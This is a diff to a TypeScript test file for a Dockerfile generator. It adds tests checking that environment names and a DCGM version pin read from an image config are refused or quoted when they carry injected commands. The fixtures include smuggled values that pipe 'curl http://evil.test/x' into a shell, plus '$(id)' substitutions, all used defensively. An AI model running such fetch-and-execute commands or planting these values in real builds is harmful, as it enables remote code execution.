@@ -121,7 +121,7 @@ test('apt mode renders compose.py-style installs', () => {
   expect(dockerfile).toContain('      libgomp1 \\\n');
   expect(dockerfile).toContain('      libre2-9 \\\n');
   expect(dockerfile).toContain('RUN python3 -m pip install --no-cache-dir --upgrade "pip" "wheel" "setuptools" "numpy"\n'); // r24.01 build.py
-  expect(dockerfile).toContain('apt-get install -y --no-install-recommends datacenter-gpu-manager=1:3.2.6');
+  expect(dockerfile).toContain('apt-get install -y --no-install-recommends "datacenter-gpu-manager=1:3.2.6"');
   expect(render('25.01', true, 'python', { 'runtime-deps': 'apt' }).dockerfile).toContain(
     'ENV PIP_BREAK_SYSTEM_PACKAGES=1\n# Runtime dependencies installed with apt-get, as compose.py does (needs the network).\nRUN apt-get update',
   );
@@ -144,6 +144,33 @@ describe('errors found only in the images', () => {
     const spec = parseSpec({ 'container-version': '24.01', gpu: 'false', 'full-image': 'a.io/b:c', 'min-image': 'a.io/b:d' });
     expect(() => planCompose(spec, sources, P)).toThrow(
       'gpu: is false but the full image was built with TRITON_SERVER_GPU_ENABLED=1; set gpu: true or give a CPU-only full-image',
+    );
+  });
+  /** The fixture sources with extra Env lines in the full image's config. */
+  const withFullEnv = (...env: string[]) => {
+    const sources = fixtureSources('24.01', true);
+    const config = sources.full.platforms['linux/amd64'].config;
+    config.config = { ...config.config, Env: [...(config.config?.Env ?? []), ...env] };
+    return sources;
+  };
+  const gpuSpec = () => parseSpec({ 'container-version': '24.01', backends: 'onnxruntime' });
+  test('an env name that is not a plain name is refused, naming the image and the name', () => {
+    const sources = withFullEnv('X\nRUN curl http://evil.test/x | sh\nENV Y=1');
+    expect(() => planCompose(gpuSpec(), sources, P)).toThrow(
+      `full-image: ${sources.full.name} sets an env variable named "X\\nRUN curl http://evil.test/x | sh\\nENV Y": not a plain name, it cannot be copied`,
+    );
+    for (const bad of ['A B=1', 'A$(id)=1', '1A=1', 'A-B=1'])
+      expect(() => planCompose(gpuSpec(), withFullEnv(bad), P)).toThrow('sets an env variable named');
+  });
+  test('env values are quoted: $, quotes and backslashes do not expand', () => {
+    const { dockerfile } = renderDockerfile(planCompose(gpuSpec(), withFullEnv('EVIL=$(id) "a" \\ `b`'), P), '0.1.0');
+    expect(dockerfile).toContain('EVIL="\\$(id) \\"a\\" \\\\ `b`"');
+  });
+  test('a DCGM_VERSION that is not a version is refused before it becomes an apt pin', () => {
+    const sources = withFullEnv('DCGM_VERSION=3.2.6 && curl http://evil.test/x | sh');
+    const spec = parseSpec({ 'container-version': '24.01', backends: 'onnxruntime', 'runtime-deps': 'apt' });
+    expect(() => planCompose(spec, sources, P)).toThrow(
+      `full-image: ${sources.full.name} sets DCGM_VERSION to "3.2.6 && curl http://evil.test/x | sh": not a version, it cannot pin a package`,
     );
   });
   test('a user the image does not have', () => {
